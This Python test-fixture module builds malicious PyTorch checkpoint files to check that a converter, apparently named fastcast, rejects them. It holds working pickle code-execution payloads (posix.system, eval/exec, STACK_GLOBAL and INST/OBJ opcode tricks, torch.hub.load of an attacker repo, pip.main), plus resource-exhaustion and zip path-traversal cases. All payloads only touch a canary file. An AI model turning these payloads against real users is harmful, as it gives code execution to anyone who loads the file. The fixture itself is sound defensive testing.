"""Hostile torch.save files, built without torch: one case per class of the reference's
section 6 (shared/reference/torch-checkpoints.md), named by its number.

Each case writes ``pytorch_model.bin`` into a model folder. Payloads that would run code
create the canary file when executed (``pickle.load`` of them does: see
test_bin_hostile.py's check that the payloads are live), so a canary that never
appears proves nothing ran. ``outcome`` is what fastcast must do: ``refused`` (one line
naming the file, nothing written), ``read`` (converted exactly: the file is odd but
harmless), or ``either`` (bounded in time and memory, no crash, either way).

    CASES["01-posix-system"].build(model_folder, canary)
"""

from __future__ import annotations

import io
import shlex
import struct
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

from torch_files import (
    Call,
    Global,
    Layout,
    Member,
    OrderedDictOf,
    PersId,
    Pickler,
    Raw,
    Storage,
    Tensor,
    Zip,
    pickle_bytes,
    storages_of,
    tensor,
    torch_file,
    torch_zip,
    zip_bytes,
)

NAME = "pytorch_model.bin"


@dataclass(frozen=True)
class Case:
    number: int
    name: str
    build: Callable[[Path], bytes]
    """canary path -> the file's bytes."""
    outcome: Literal["refused", "read", "either"]

    @property
    def id(self) -> str:
        return f"{self.number:02d}-{self.name}"

    def write(self, model: Path, canary: Path) -> Path:
        model.mkdir(parents=True, exist_ok=True)
        path = model / NAME
        path.write_bytes(self.build(canary))
        return path


CASES: dict[str, Case] = {}


def case(
    number: int, name: str, outcome: Literal["refused", "read", "either"] = "refused"
) -> Callable[[Callable[[Path], bytes]], Callable[[Path], bytes]]:
    def register(build: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
        c = Case(number, name, build, outcome)
        assert c.id not in CASES, c.id
        CASES[c.id] = c
        return build

    return register


# --- building blocks -------------------------------------------------------------------------


def weights() -> OrderedDictOf:
    """A small honest state dict."""
    return OrderedDictOf(
        [
            ("w", tensor("F32", [1.0, 2.0, 3.0, 4.0, 5.0, 6.0], (2, 3), key="0")),
            ("b", tensor("F32", [0.5, 0.25, 0.125], (3,), key="1")),
        ]
    )


def with_entry(name: str, value: Any) -> bytes:
    """The honest state dict with one more entry."""
    sd = weights()
    sd.items.append((name, value))
    return torch_file(sd)


def touch(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def system(canary: Path) -> Call:
    return Call(Global("posix", "system"), (touch(canary),))


def python_touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def with_pickle(pkl: bytes, layout: Layout | None = None, z: Zip | None = None) -> bytes:
    """``pkl`` as data.pkl beside the honest state dict's storages."""
    return torch_zip(pkl, storages_of(weights()).values(), layout, z)


def spliced(before: bytes, after: bytes = b"") -> bytes:
    """The honest state dict's pickle with raw opcodes inserted just before its final
    SETITEMS (so ``before`` runs on the dict's MARK stack) and ``after`` after STOP."""
    pkl = pickle_bytes(weights())
    assert pkl.endswith(b"u.")
    return pkl[:-2] + before + b"u." + after


def with_tensors(**tensors: Tensor) -> bytes:
    return torch_file(OrderedDictOf(list(tensors.items())))


# --- code execution ----------------------------------------------------------------------------


@case(1, "posix-system")
def _posix_system(canary: Path) -> bytes:
    return with_entry("evil", system(canary))


@case(2, "builtins-eval")
def _eval(canary: Path) -> bytes:
    return with_entry("evil", Call(Global("builtins", "eval"), (python_touch(canary),)))


@case(2, "builtins-exec")
def _exec(canary: Path) -> bytes:
    return with_entry("evil", Call(Global("builtins", "exec"), (python_touch(canary),)))


@case(2, "builtins-getattr-import")
def _getattr(canary: Path) -> bytes:
    os_module = Call(Global("builtins", "__import__"), ("os",))
    run = Call(Global("builtins", "getattr"), (os_module, "system"))
    return with_entry("evil", Call(run, (touch(canary),)))


@case(3, "stack-global-from-memo")
def _stack_global(canary: Path) -> bytes:
    p = Pickler()
    p.save("posix")
    p.save("system")
    p.out += b"0"  # POP 'system'; keep the memo
    p.out += b"0"
    p.save(weights())
    p.out += b"X" + struct.pack("<I", 4) + b"evil"
    p.out += b"h\x00h\x01\x93"  # BINGET 'posix', BINGET 'system', STACK_GLOBAL
    p.save((touch(canary),))
    p.out += b"Rs."  # REDUCE, SETITEM, STOP
    return with_pickle(bytes(p.out))


@case(4, "inst")
def _inst(canary: Path) -> bytes:
    cmd = touch(canary).encode()
    op = b"(X" + struct.pack("<I", len(cmd)) + cmd + b"iposix\nsystem\n"
    return with_pickle(spliced(b"X\x04\x00\x00\x00evil" + op))


@case(4, "obj")
def _obj(canary: Path) -> bytes:
    cmd = touch(canary).encode()
    op = b"(cposix\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd + b"o"
    return with_pickle(spliced(b"X\x04\x00\x00\x00evil" + op))


@case(5, "load-from-bytes")
def _load_from_bytes(canary: Path) -> bytes:
    inner = pickle_bytes(system(canary))
    return with_entry("evil", Call(Global("torch.storage", "_load_from_bytes"), (inner,)))


@case(6, "torch-load")
def _torch_load(canary: Path) -> bytes:
    return with_entry("evil", Call(Global("torch", "load"), (str(canary),)))


@case(6, "torch-jit-load")
def _jit_load(canary: Path) -> bytes:
    return with_entry("evil", Call(Global("torch.jit", "load"), (str(canary),)))


@case(6, "torch-hub-load")
def _hub_load(canary: Path) -> bytes:
    return with_entry("evil", Call(Global("torch.hub", "load"), ("attacker/repo", "x")))


@case(7, "rebuild-from-type-arbitrary")
def _from_type(canary: Path) -> bytes:
    rebuild = Call(
        Global("torch._tensor", "_rebuild_from_type_v2"),
        (Global("posix", "system"), Global("builtins", "str"), (touch(canary),), {}),
    )
    return with_entry("evil", rebuild)


@case(8, "rebuild-from-numpy")
def _from_numpy(canary: Path) -> bytes:
    rebuild = Call(
        Global("torch._utils", "_rebuild_device_tensor_from_numpy"),
        (system(canary), Global("torch", "float32"), "cpu", False),
    )
    return with_entry("w2", rebuild)


@case(9, "legacy-raw-with-rce")
def _legacy(canary: Path) -> bytes:
    magic = Raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little"))
    parts = [magic, 1001, {"protocol_version": 1001, "little_endian": True}]
    out = b"".join(pickle_bytes(x) for x in parts)
    return out + pickle_bytes({"w": system(canary)}) + pickle_bytes([])


@case(10, "tar-layout")
def _tar(canary: Path) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in [
            ("storages", pickle_bytes(0)),
            ("tensors", pickle_bytes(0)),
            ("pickle", pickle_bytes({"w": system(canary)})),
        ]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@case(11, "torchscript")
def _torchscript(canary: Path) -> bytes:
    extra = [
        Member("archive/constants.pkl", pickle_bytes(system(canary))),
        Member("archive/code/__torch__.py", b"def forward(self): pass\n"),
    ]
    return torch_file(weights(), Layout(extra=extra))


@case(12, "pip-main")
def _pip(canary: Path) -> bytes:
    # pip writes its --log file before doing anything else.
    args = ["--log", str(canary), "--version"]
    return with_entry("evil", Call(Global("pip", "main"), (args,)))


@case(13, "hidden-pickle-unreferenced", "read")
def _hidden(canary: Path) -> bytes:
    extra = [Member("archive/data/99", pickle_bytes(system(canary)))]
    return torch_file(weights(), Layout(extra=extra))


# --- the pickle VM ---------------------------------------------------------------------------


@case(14, "setitem-on-list")
def _setitem_list(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00x]K\x00K\x01s"))


@case(14, "setitems-on-tuple")
def _setitems_tuple(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00xK\x01\x85(K\x00K\x01u"))


@case(15, "append-on-dict")
def _append_dict(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00x}K\x01a"))


@case(16, "build-on-str")
def _build_str(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00xX\x01\x00\x00\x00y}b"))


@case(17, "persid-not-storage")
def _persid_kind(canary: Path) -> bytes:
    pid = PersId(("module", Global("torch", "FloatStorage"), "0", "cpu", 6))
    bad = Call(
        Global("torch._utils", "_rebuild_tensor_v2"), (pid, 0, (6,), (1,), False, OrderedDictOf([]))
    )
    return with_entry("x", bad)


@case(17, "persid-not-tuple")
def _persid_str(canary: Path) -> bytes:
    bad = Call(
        Global("torch._utils", "_rebuild_tensor_v2"),
        (PersId("storage"), 0, (6,), (1,), False, OrderedDictOf([])),
    )
    return with_entry("x", bad)


@case(18, "untyped-storage-under-v2")
def _untyped_v2(canary: Path) -> bytes:
    s = Storage("0", "F32", bytes(24), storage_class=Global("torch", "UntypedStorage"))
    return with_tensors(w=Tensor(s, (6,)))


@case(19, "tuple-without-mark")
def _no_mark(canary: Path) -> bytes:
    return with_pickle(b"\x80\x02K\x01t.")


@case(19, "stack-underflow")
def _underflow(canary: Path) -> bytes:
    return with_pickle(b"\x80\x02R.")


@case(20, "binget-undefined")
def _binget(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00xh\xc8"))


@case(21, "long-binput-huge", "either")
def _long_binput(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00xK\x07r\xff\xff\xff\xff0j\xff\xff\xff\xff"))


@case(22, "billion-laughs-tuples", "either")
def _laughs_tuples(canary: Path) -> bytes:
    op = b"X\x01\x00\x00\x00xK\x00"
    for i in range(60):
        op += b"q" + bytes([200 + i % 50]) + b"h" + bytes([200 + i % 50]) + b"\x86"
    return with_pickle(spliced(op))


@case(22, "billion-laughs-dicts")
def _laughs_dicts(canary: Path) -> bytes:
    # d(i+1) = {"a": d(i), "b": d(i)}: 2**40 paths once flattened.
    op = b"X\x01\x00\x00\x00x}"
    for i in range(40):
        op += b"r" + struct.pack("<I", 1000 + i)
        op += b"}(X\x01\x00\x00\x00aj" + struct.pack("<I", 1000 + i)
        op += b"X\x01\x00\x00\x00bj" + struct.pack("<I", 1000 + i) + b"u"
    return with_pickle(spliced(op))


@case(23, "deep-lists")
def _deep_lists(canary: Path) -> bytes:
    return with_pickle(b"\x80\x02" + b"]" * 1_000_000 + b"a" * 999_999 + b".")


@case(23, "many-marks")
def _many_marks(canary: Path) -> bytes:
    return with_pickle(b"\x80\x02" + b"(" * 1_000_000 + b"N.")


@case(24, "self-containing-list", "either")
def _self_list(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00x]r\x10\x27\x00\x00j\x10\x27\x00\x00a"))


@case(24, "self-containing-dict")
def _self_dict(canary: Path) -> bytes:
    op = b"X\x01\x00\x00\x00x}r\x10\x27\x00\x00X\x01\x00\x00\x00yj\x10\x27\x00\x00s"
    return with_pickle(spliced(op))


@case(25, "binunicode-huge-length")
def _huge_str(canary: Path) -> bytes:
    return with_pickle(b"\x80\x02}X\xff\xff\xff\xffabc")


@case(26, "invalid-utf8")
def _bad_utf8(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x02\x00\x00\x00\xff\xfeK\x01"))


@case(26, "lone-surrogate")
def _surrogate(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x03\x00\x00\x00\xed\xa0\x80K\x01"))


@case(27, "long1-255-bytes")
def _long1(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00x\x8a\xff" + b"\x7f" * 255))


@case(28, "negative-shape")
def _neg_shape(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("0", "F32", bytes(24)), (-1, 6), stride=(6, 1)))


@case(28, "negative-stride")
def _neg_stride(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("0", "F32", bytes(24)), (2, 3), stride=(-3, 1), offset=3))


@case(29, "no-stop")
def _no_stop(canary: Path) -> bytes:
    return with_pickle(pickle_bytes(weights())[:-1])


@case(29, "trailing-garbage")
def _trailing(canary: Path) -> bytes:
    return with_pickle(pickle_bytes(weights()) + b"cposix\nsystem\n")


@case(30, "next-buffer")
def _next_buffer(canary: Path) -> bytes:
    return with_pickle(spliced(b"X\x01\x00\x00\x00x\x97"))


@case(31, "empty-file")
def _empty(canary: Path) -> bytes:
    return b""


# --- geometry ----------------------------------------------------------------------------------


@case(32, "storage-larger-than-member")
def _numel_larger(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("0", "F32", bytes(24), numel=12), (6,)))


@case(32, "storage-smaller-than-member")
def _numel_smaller(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("0", "F32", bytes(24), numel=3), (3,)))


@case(33, "view-past-storage")
def _past_end(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("0", "F32", bytes(24)), (6,), offset=1))


@case(34, "shape-overflows-u64")
def _overflow(canary: Path) -> bytes:
    big = 2**40
    return with_tensors(w=Tensor(Storage("0", "F32", bytes(24)), (big, big, big), stride=(0, 0, 0)))


@case(35, "ndim-100000")
def _ndim(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("0", "F32", bytes(4)), (1,) * 100_000))


@case(36, "zero-size-and-scalar", "read")
def _zero(canary: Path) -> bytes:
    return with_tensors(
        w=tensor("F32", [1.0, 2.0], (2,), key="0"),
        empty=tensor("F32", [], (0, 4), key="1"),
        scalar=tensor("I64", [7], (), key="2"),
    )


@case(37, "stride-0")
def _stride0(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("0", "F32", bytes(12)), (4, 3), stride=(0, 1)))


@case(38, "transposed-view")
def _transposed(canary: Path) -> bytes:
    w = tensor("F32", range(6), (2, 3))
    return with_tensors(w=w, wt=Tensor(w.storage, (3, 2), stride=(1, 3)))


@case(39, "tied-duplicates", "read")
def _tied(canary: Path) -> bytes:
    emb = tensor("F32", range(6), (3, 2))
    return with_tensors(emb=emb, lm_head=emb, copy=Tensor(emb.storage, (3, 2)))


@case(40, "overlapping-slices", "read")
def _overlap(canary: Path) -> bytes:
    flat = Storage("0", "F32", b"".join(struct.pack("<f", i) for i in range(8)))
    return with_tensors(a=Tensor(flat, (6,)), b=Tensor(flat, (4,), offset=4), c=Tensor(flat, (2,)))


@case(41, "duplicate-keys")
def _dup_keys(canary: Path) -> bytes:
    sd = weights()
    sd.items.append(("w", tensor("F32", [9.0] * 6, (2, 3), key="2")))
    return torch_file(sd)


@case(42, "empty-key")
def _empty_key(canary: Path) -> bytes:
    return with_entry("", tensor("F32", [1.0], (1,), key="2"))


@case(42, "non-string-key")
def _int_key(canary: Path) -> bytes:
    return torch_file({0: tensor("F32", [1.0], (1,)), 1: tensor("F32", [2.0], (1,), key="1")})


@case(42, "newline-and-slash-keys", "read")
def _odd_keys(canary: Path) -> bytes:
    return with_entry("a/b\nc", tensor("F32", [1.0], (1,), key="2"))


@case(42, "megabyte-key", "either")
def _long_key(canary: Path) -> bytes:
    return with_entry("k" * (1 << 20), tensor("F32", [1.0], (1,), key="2"))


@case(43, "storage-key-dotdot")
def _key_dotdot(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("../data.pkl", "F32", bytes(24)), (6,)))


@case(43, "storage-key-missing")
def _key_missing(canary: Path) -> bytes:
    s = Storage("7", "F32", bytes(24))
    return torch_zip(pickle_bytes(OrderedDictOf([("w", Tensor(s, (6,)))])), [])


@case(43, "storage-key-negative")
def _key_negative(canary: Path) -> bytes:
    return with_tensors(w=Tensor(Storage("-1", "F32", bytes(24)), (6,)))


@case(44, "storage-two-dtypes")
def _two_dtypes(canary: Path) -> bytes:
    s = Storage("0", "F32", bytes(24))
    s16 = Storage("0", "F16", bytes(24))
    pkl = pickle_bytes(OrderedDictOf([("a", Tensor(s, (6,))), ("b", Tensor(s16, (12,)))]))
    return torch_zip(pkl, [s])


@case(45, "quantized-storage")
def _qint8(canary: Path) -> bytes:
    s = Storage("0", "I8", bytes(6), storage_class=Global("torch", "QInt8Storage"))
    return with_tensors(w=Tensor(s, (6,)))


@case(45, "sparse")
def _sparse(canary: Path) -> bytes:
    i = tensor("I64", [0, 1], (1, 2), key="0")
    v = tensor("F32", [1.0, 2.0], (2,), key="1")
    sparse = Call(
        Global("torch._utils", "_rebuild_sparse_tensor"),
        (Global("torch", "sparse_coo"), ((4,), i, v)),
    )
    return with_entry("s", sparse)


@case(45, "meta")
def _meta(canary: Path) -> bytes:
    meta = Call(
        Global("torch._utils", "_rebuild_meta_tensor_no_storage"),
        (Global("torch", "float32"), (4,), (1,), False),
    )
    return with_entry("m", meta)


@case(45, "complex")
def _complex(canary: Path) -> bytes:
    s = Storage("0", "F64", bytes(32), storage_class=Global("torch", "ComplexFloatStorage"))
    return with_tensors(w=Tensor(s, (4,)))


@case(45, "bits8")
def _bits8(canary: Path) -> bytes:
    s = Storage("0", "U8", bytes(4), storage_class=Global("torch.storage", "UntypedStorage"))
    return with_tensors(w=Tensor(s, (4,), v3_dtype=Global("torch", "bits8")))


@case(46, "dtype-float128")
def _float128(canary: Path) -> bytes:
    s = Storage("0", "U8", bytes(32), storage_class=Global("torch.storage", "UntypedStorage"))
    return with_tensors(w=Tensor(s, (2,), v3_dtype=Global("torch", "float128")))


# --- the zip container -----------------------------------------------------------------------


def members(pkl: bytes | None = None) -> list[Member]:
    sd = weights()
    pkl = pkl if pkl is not None else pickle_bytes(sd)
    return [
        Member("archive/data.pkl", pkl),
        Member("archive/byteorder", b"little"),
        *(Member(f"archive/data/{s.key}", s.data) for s in storages_of(sd).values()),
        Member("archive/version", b"3\n"),
    ]


@case(47, "duplicate-data-pkl")
def _dup_pkl(canary: Path) -> bytes:
    ms = members()
    evil = pickle_bytes({"w": system(canary)})
    return zip_bytes([*ms, Member("archive/data.pkl", evil)])


@case(48, "two-prefixes")
def _two_prefixes(canary: Path) -> bytes:
    return zip_bytes([*members(), Member("other/data.pkl", pickle_bytes({}))])


@case(49, "local-central-name-mismatch")
def _name_mismatch(canary: Path) -> bytes:
    ms = members()
    ms[0].local_name = "archive/data.pkx"
    return zip_bytes(ms)


@case(50, "encrypted-local-only")
def _enc_local(canary: Path) -> bytes:
    ms = members()
    ms[0].local_flags = 0x0809
    return zip_bytes(ms)


@case(50, "encrypted-central-only")
def _enc_central(canary: Path) -> bytes:
    ms = members()
    ms[2].central_flags = 0x0809
    return zip_bytes(ms)


@case(51, "deflated-entries")
def _deflated(canary: Path) -> bytes:
    ms = members()
    for m in ms:
        m.method = 8
    return zip_bytes(ms)


@case(52, "stored-size-mismatch")
def _size_lie(canary: Path) -> bytes:
    ms = members()
    ms[2].compressed_size = len(ms[2].data) - 4
    return zip_bytes(ms)


@case(53, "overlapping-entries")
def _overlapping(canary: Path) -> bytes:
    ms = members()
    ms[3].offset = 0  # data/1 points at data.pkl's local header
    return zip_bytes(ms)


@case(54, "offset-past-eof")
def _past_eof(canary: Path) -> bytes:
    ms = members()
    ms[2].offset = 1 << 30
    return zip_bytes(ms)


@case(55, "zip64-count-disagrees")
def _zip64_count(canary: Path) -> bytes:
    return zip_bytes(members(), Zip(zip64_entry_count=9))


@case(55, "zip64-cd-offset-disagrees")
def _zip64_offset(canary: Path) -> bytes:
    return zip_bytes(members(), Zip(zip64_cd_offset=64))


@case(56, "two-eocd-records")
def _two_eocd(canary: Path) -> bytes:
    return zip_bytes(members(), Zip(extra_eocd=True))


@case(56, "fake-eocd-in-comment")
def _fake_eocd(canary: Path) -> bytes:
    fake = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, 46, 0, 0)
    return zip_bytes(members(), Zip(comment=fake))


@case(57, "self-extractor-prefix")
def _junk(canary: Path) -> bytes:
    return zip_bytes(members(), Zip(junk=b"#!/bin/sh\n" + touch(canary).encode() + b"\nexit 0\n"))


@case(59, "wrong-entry-count")
def _count(canary: Path) -> bytes:
    return zip_bytes(members(), Zip(entry_count=3))


@case(60, "dotdot-name")
def _dotdot(canary: Path) -> bytes:
    return zip_bytes([*members(), Member("archive/../evil", b"x")])


@case(60, "backslash-name")
def _backslash(canary: Path) -> bytes:
    return zip_bytes([*members(), Member("archive\\data\\9", b"x")])


@case(60, "nul-name")
def _nul(canary: Path) -> bytes:
    return zip_bytes([*members(), Member("archive/data/9\0", b"x")])


@case(60, "absolute-name")
def _absolute(canary: Path) -> bytes:
    return zip_bytes([Member("/archive/data.pkl", pickle_bytes(weights())), *members()[1:]])


@case(61, "byteorder-big")
def _big(canary: Path) -> bytes:
    return torch_file(weights(), Layout(byteorder=b"big"))


@case(61, "byteorder-middle")
def _middle(canary: Path) -> bytes:
    return torch_file(weights(), Layout(byteorder=b"middle"))


@case(61, "byteorder-missing", "read")
def _no_byteorder(canary: Path) -> bytes:
    return torch_file(weights(), Layout(byteorder=None))


@case(62, "version-99")
def _version99(canary: Path) -> bytes:
    return torch_file(weights(), Layout(version=b"99\n"))


@case(62, "version-not-numeric")
def _version_text(canary: Path) -> bytes:
    return torch_file(weights(), Layout(version=b"three\n"))


@case(63, "safetensors-renamed")
def _safetensors(canary: Path) -> bytes:
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    return struct.pack("<Q", len(header)) + header + bytes(4)


@case(63, "gguf-renamed")
def _gguf(canary: Path) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 0)


@case(63, "npy-renamed")
def _npy(canary: Path) -> bytes:
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(4)


@case(65, "truncated-mid-storage")
def _truncated(canary: Path) -> bytes:
    data = torch_file(OrderedDictOf([("w", tensor("F32", range(64), (64,)))]))
    return data[: data.index(struct.pack("<f", 32.0))]
